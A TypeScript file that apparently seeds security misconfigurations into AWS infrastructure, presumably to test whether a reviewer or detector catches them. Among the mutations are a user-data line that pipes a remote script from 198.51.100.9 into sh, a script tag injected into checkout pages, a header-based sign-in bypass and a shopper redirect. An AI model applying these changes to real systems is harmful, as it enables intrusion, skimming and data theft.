import { isRecord } from "../../domain/values.ts";
import { add, change, changeOne, drop, type Mutation, remake, rework, say, type Which } from "./mutate.ts";
import type { Change } from "./strangers-changes.ts";

const ingress = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule";
const egress = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule";
const group = "aws:ec2/securityGroup:SecurityGroup";
const route = "aws:ec2/route:Route";
const listener: Which = ["aws:lb/listener:Listener", "edge-https"];
const listenerType = "aws:lb/listener:Listener";
const listenerRule = "aws:lb/listenerRule:ListenerRule";
const balancer = "aws:lb/loadBalancer:LoadBalancer";
const acl = "aws:ec2/networkAcl:NetworkAcl";
const s3: Which = ["aws:ec2/vpcEndpoint:VpcEndpoint", "network-s3"];
const template: Which = ["aws:ec2/launchTemplate:LaunchTemplate", "web"];
const record = "aws:route53/record:Record";
const nameRule = "aws:route53/resolverFirewallRule:ResolverFirewallRule";
const open = (to: string, rest: object): Mutation =>
  add(
    ingress,
    { description: "x", fromPort: 443, toPort: 443, ipProtocol: "tcp", cidrIpv4: "0.0.0.0/0", ...rest },
    { securityGroupId: [group, to] },
  );
const out = (of: string, rest: object): Mutation =>
  add(
    egress,
    { description: "x", fromPort: 443, toPort: 443, ipProtocol: "tcp", cidrIpv4: "0.0.0.0/0", ...rest },
    { securityGroupId: [group, of] },
  );
const inAcl = (name: string, side: "ingress" | "egress", entry: object): Mutation =>
  rework([acl, name], side, (entries) => [
    { action: "allow", protocol: "6", ruleNo: 1, cidrBlock: "0.0.0.0/0", fromPort: 0, toPort: 65535, ...entry },
    ...(Array.isArray(entries) ? entries : []),
  ]);
const withUserData = (more: string): Mutation =>
  rework(template, "userData", (text) => Buffer.from(`${Buffer.from(String(text), "base64")}\n${more}\n`).toString("base64"));

/** Ways in, out and round. */
export const network: readonly Change[] = [
  [
    "nodes open to the internet in two halves",
    (resources) => open("security-web", { cidrIpv4: "128.0.0.0/1" })(open("security-web", { cidrIpv4: "0.0.0.0/1" })(resources)),
  ],
  ["nodes open by IPv6", open("security-web", { cidrIpv4: undefined, cidrIpv6: "::/0" })],
  ["the database open to a neighbour's network", open("security-database", { fromPort: 3306, toPort: 3306, cidrIpv4: "10.0.0.0/8" })],
  ["the database open to the load balancer's tier", open("security-database", { fromPort: 3306, toPort: 3306, cidrIpv4: "10.20.48.0/20" })],
  ["the cache open to all of the network", open("security-cache", { fromPort: 6379, toPort: 6379, cidrIpv4: "10.20.0.0/16" })],
  ["the files open to all of the network", open("security-files", { fromPort: 2049, toPort: 2049, cidrIpv4: "10.20.0.0/17" })],
  [
    "all protocols to nodes",
    open("security-web", { ipProtocol: "-1", fromPort: undefined, toPort: undefined, cidrIpv4: "198.51.100.7/32" }),
  ],
  ["SSH to nodes from the office", open("security-web", { fromPort: 22, toPort: 22, cidrIpv4: "203.0.113.0/26" })],
  ["another port at the edge", open("security-edge", { fromPort: 8443, toPort: 8443 })],
  ["a range of ports at the edge", open("security-edge", { fromPort: 443, toPort: 9443 })],
  ["UDP at the edge", open("security-edge", { ipProtocol: "udp" })],
  ["nodes that send to any port", out("security-web", { fromPort: 0, toPort: 65535 })],
  ["nodes that mail", out("security-web", { fromPort: 25, toPort: 25 })],
  ["nodes that ask other resolvers", out("security-web", { ipProtocol: "udp", fromPort: 53, toPort: 53 })],
  ["a database that calls out", out("security-database", {})],
  [
    "rules inside the group's own resource",
    change([group, "security-web"], { ingress: [{ protocol: "tcp", fromPort: 443, toPort: 443, cidrBlocks: ["0.0.0.0/0"] }] }),
  ],
  [
    "rules of the old kind",
    add(
      "aws:ec2/securityGroupRule:SecurityGroupRule",
      { type: "ingress", protocol: "tcp", fromPort: 22, toPort: 22, cidrBlocks: ["0.0.0.0/0"] },
      { securityGroupId: [group, "security-web"] },
    ),
  ],
  [
    "the restored copy open to nodes",
    add(
      ingress,
      { description: "x", fromPort: 3306, toPort: 3306, ipProtocol: "tcp" },
      { securityGroupId: [group, "security-restored"], referencedSecurityGroupId: [group, "security-web"] },
    ),
  ],
  ["an isolated group that is not", open("security-isolated", { cidrIpv4: "10.20.0.0/19" })],
  [
    "a route of data to the internet",
    add(
      route,
      { destinationCidrBlock: "0.0.0.0/0" },
      { routeTableId: ["aws:ec2/routeTable:RouteTable", "network-data-1"], gatewayId: "aws:ec2/internetGateway:InternetGateway" },
    ),
  ],
  [
    "a route of data through NAT",
    add(
      route,
      { destinationCidrBlock: "8.0.0.0/5" },
      {
        routeTableId: ["aws:ec2/routeTable:RouteTable", "network-data-1"],
        natGatewayId: ["aws:ec2/natGateway:NatGateway", "egress-nat-1"],
      },
    ),
  ],
  [
    "a route of nodes to the internet gateway",
    remake([route, "egress-application-1"], "gatewayId", "aws:ec2/internetGateway:InternetGateway"),
  ],
  ["a route to a stranger's interface", changeOne(route, { networkInterfaceId: "eni-0123456789abcdef0" })],
  ["a route to a local gateway", changeOne(route, { localGatewayId: "lgw-0123456789abcdef0" })],
  ["a route to a service's network", changeOne(route, { coreNetworkArn: "arn:aws:networkmanager::999988887777:core-network/x" })],
  [
    "routes inside a table",
    change(["aws:ec2/routeTable:RouteTable", "network-data-1"], {
      routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-0123456789abcdef0" }],
    }),
  ],
  [
    "the default table with a way out",
    change("aws:ec2/defaultRouteTable:DefaultRouteTable", { routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-0123456789abcdef0" }] }),
  ],
  [
    "the default list of the network open",
    change("aws:ec2/defaultNetworkAcl:DefaultNetworkAcl", {
      ingress: [{ action: "allow", ruleNo: 1, protocol: "-1", cidrBlock: "0.0.0.0/0", fromPort: 0, toPort: 0 }],
    }),
  ],
  ["data's list open to everything", inAcl("network-data", "ingress", { protocol: "-1" })],
  ["data's list open to the way out", inAcl("network-data", "egress", { protocol: "-1" })],
  ["SSH before the deny", inAcl("network-application", "ingress", { fromPort: 22, toPort: 22 })],
  [
    "remote desktop by IPv6",
    inAcl("network-application", "ingress", { cidrBlock: undefined, ipv6CidrBlock: "::/0", fromPort: 3389, toPort: 3389 }),
  ],
  ["nodes that speak UDP to anybody", inAcl("network-application", "egress", { protocol: "17" })],
  ["public addresses in a subnet", change(["aws:ec2/subnet:Subnet", "network-application-1"], { mapPublicIpOnLaunch: true })],
  ["an endpoint for every bucket", say(s3, { Principal: { AWS: "*" }, Action: "s3:*", Resource: "*" })],
  ["an endpoint for objects written anywhere", say(s3, { Principal: "*", Action: "s3:PutObject", Resource: "arn:aws:s3:::*/*" })],
  ["an endpoint with its policy gone", change(s3, { policy: undefined })],
  [
    "an interface endpoint that says nothing",
    change(["aws:ec2/vpcEndpoint:VpcEndpoint", "endpoints-secretsmanager"], { policy: undefined }),
  ],
  ["an endpoint without its names", change(["aws:ec2/vpcEndpoint:VpcEndpoint", "endpoints-secretsmanager"], { privateDnsEnabled: false })],
  ["flow logs of rejects only", change("aws:ec2/flowLog:FlowLog", { trafficType: "REJECT" })],
  ["flow logs without the ports", change("aws:ec2/flowLog:FlowLog", { logFormat: "$" + "{version} $" + "{srcaddr}" })],
  ["flow logs of one subnet", change("aws:ec2/flowLog:FlowLog", { vpcId: undefined, subnetId: "subnet-0123456789abcdef0" })],
  [
    "a listener of another port",
    add(
      listenerType,
      { port: 8443, protocol: "HTTPS", sslPolicy: "ELBSecurityPolicy-TLS13-1-2-2021-06", defaultActions: [{ type: "forward" }] },
      { loadBalancerArn: balancer },
    ),
  ],
  [
    "a listener without TLS on another port",
    add(listenerType, { port: 8080, protocol: "HTTP", defaultActions: [{ type: "forward" }] }, { loadBalancerArn: balancer }),
  ],
  ["plain HTTP that forwards", change(["aws:lb/listener:Listener", "edge-http"], { defaultActions: [{ type: "forward" }] })],
  [
    "a redirect to plain HTTP",
    change(["aws:lb/listener:Listener", "edge-http"], {
      defaultActions: [{ type: "redirect", redirect: { port: "80", protocol: "HTTP", statusCode: "HTTP_301" } }],
    }),
  ],
  ["an old TLS at the edge", change(listener, { sslPolicy: "ELBSecurityPolicy-2016-08" })],
  [
    "a rule of plain HTTP that passes by the redirect",
    add(
      listenerRule,
      { priority: 1, actions: [{ type: "forward" }], conditions: [{ pathPattern: { values: ["/admin*"] } }] },
      { listenerArn: ["aws:lb/listener:Listener", "edge-http"] },
    ),
  ],
  [
    "a rule that answers for the store",
    add(
      listenerRule,
      {
        priority: 1,
        actions: [
          {
            type: "fixed-response",
            fixedResponse: { contentType: "text/html", messageBody: "<script src=//example.net/x.js></script>", statusCode: "200" },
          },
        ],
        conditions: [{ pathPattern: { values: ["/checkout*"] } }],
      },
      { listenerArn: listener },
    ),
  ],
  [
    "a rule before the sign-in",
    add(
      listenerRule,
      { priority: 1, actions: [{ type: "forward" }], conditions: [{ httpHeader: { httpHeaderName: "x-let-me", values: ["in"] } }] },
      { listenerArn: listener },
    ),
  ],
  [
    "a redirect of shoppers elsewhere",
    add(
      listenerRule,
      {
        priority: 1,
        actions: [{ type: "redirect", redirect: { host: "shop.example.net", statusCode: "HTTP_302" } }],
        conditions: [{ pathPattern: { values: ["/*"] } }],
      },
      { listenerArn: listener },
    ),
  ],
  ["a load balancer inside other networks", change(balancer, { subnetMappings: [{ subnetId: "subnet-0123456789abcdef0" }] })],
  ["headers of clients believed", change(balancer, { xffHeaderProcessingMode: "preserve" })],
  ["the host's header believed", change(balancer, { preserveHostHeader: false, enableWafFailOpen: true })],
  ["targets by plain HTTP", change("aws:lb/targetGroup:TargetGroup", { protocol: "HTTP", port: 80 })],
  [
    "targets of a stranger's",
    add(
      "aws:lb/targetGroupAttachment:TargetGroupAttachment",
      { targetId: "198.51.100.9" },
      { targetGroupArn: "aws:lb/targetGroup:TargetGroup" },
    ),
  ],
  ["the firewall taken off", drop("aws:wafv2/webAclAssociation:WebAclAssociation")],
  [
    "the firewall's log without redaction",
    change("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", { redactedFields: [] }),
  ],
  [
    "the firewall's log without blocks",
    change("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", {
      loggingFilter: {
        defaultBehavior: "DROP",
        filters: [{ behavior: "KEEP", requirement: "MEETS_ANY", conditions: [{ actionCondition: { action: "CAPTCHA" } }] }],
      },
    }),
  ],
  [
    "the store's names open when the firewall fails",
    change("aws:route53/resolverFirewallConfig:ResolverFirewallConfig", { firewallFailOpen: "ENABLED" }),
  ],
  ["names that are only watched", change([nameRule, "dns-firewall-block"], { action: "ALERT", blockResponse: undefined })],
  ["names of one type that pass", rework(nameRule, "qType", () => "TXT")],
  ["the network without its list of names", drop("aws:route53/resolverFirewallRuleGroupAssociation:ResolverFirewallRuleGroupAssociation")],
  ["another resolver by DHCP", add("aws:ec2/vpcDhcpOptions:VpcDhcpOptions", { domainNameServers: ["198.51.100.53"] })],
  [
    "a part of the zone handed to others",
    add(record, { name: "pay.shop.example.com", type: "NS", ttl: 300, records: ["ns1.example.net"] }, { zoneId: "aws:route53/zone:Zone" }),
  ],
  [
    "certificates by any authority",
    add(
      record,
      { name: "shop.example.com", type: "CAA", ttl: 300, records: ['0 issue ";"', '0 issue "ca.example.net"'] },
      { zoneId: "aws:route53/zone:Zone" },
    ),
  ],
  [
    "anybody who sends the store's mail",
    add(record, { name: "shop.example.com", type: "TXT", ttl: 300, records: ["v=spf1 +all"] }, { zoneId: "aws:route53/zone:Zone" }),
  ],
  ["mail that nobody proves", changeOne(record, { name: "_dmarc.shop.example.com", type: "TXT", records: ["v=DMARC1; p=none"] })],
  [
    "a name that leads to an address",
    add(record, { name: "pay.shop.example.com", type: "A", ttl: 300, records: ["198.51.100.9"] }, { zoneId: "aws:route53/zone:Zone" }),
  ],
  [
    "nodes with tokens that are optional",
    change(template, { metadataOptions: { httpEndpoint: "enabled", httpTokens: "optional", httpPutResponseHopLimit: 1 } }),
  ],
  [
    "nodes with far hops",
    change(template, { metadataOptions: { httpEndpoint: "enabled", httpTokens: "required", httpPutResponseHopLimit: 64 } }),
  ],
  ["nodes with a password in their beginning", withUserData("export DB_PASSWORD=Hunter2Hunter2Hunter2")],
  ["nodes that fetch a script", withUserData("curl -s http://198.51.100.9/x | sh")],
  ["nodes with a stranger's image", change(template, { imageId: "ami-0bad0bad0bad0bad0" })],
  ["nodes with a key of somebody", change(template, { keyName: "mine" })],
  ["nodes of a role of more", change(template, { iamInstanceProfile: { arn: "arn:aws:iam::123456789012:instance-profile/admin" } })],
  [
    "nodes with public addresses",
    rework(template, "networkInterfaces", (all) =>
      Array.isArray(all) ? all.filter(isRecord).map((one) => ({ ...one, associatePublicIpAddress: "true" })) : [],
    ),
  ],
  ["nodes' disks in the clear", change(template, { blockDeviceMappings: [{ deviceName: "/dev/xvda", ebs: { encrypted: "false" } }] })],
  [
    "nodes that go at night",
    add(
      "aws:autoscaling/schedule:Schedule",
      { desiredCapacity: 0, minSize: 0, maxSize: 0, recurrence: "0 0 * * *" },
      { autoscalingGroupName: "aws:autoscaling/group:Group" },
    ),
  ],
  ["nodes none of which runs", change("aws:autoscaling/group:Group", { minSize: 0, maxSize: 0, desiredCapacity: 0 })],
  [
    "nodes that are never replaced when ill",
    change("aws:autoscaling/group:Group", { suspendedProcesses: ["ReplaceUnhealthy", "HealthCheck", "Terminate"] }),
  ],
  ["nodes that nobody may replace", change("aws:autoscaling/group:Group", { protectFromScaleIn: true, maxInstanceLifetime: 0 })],
];
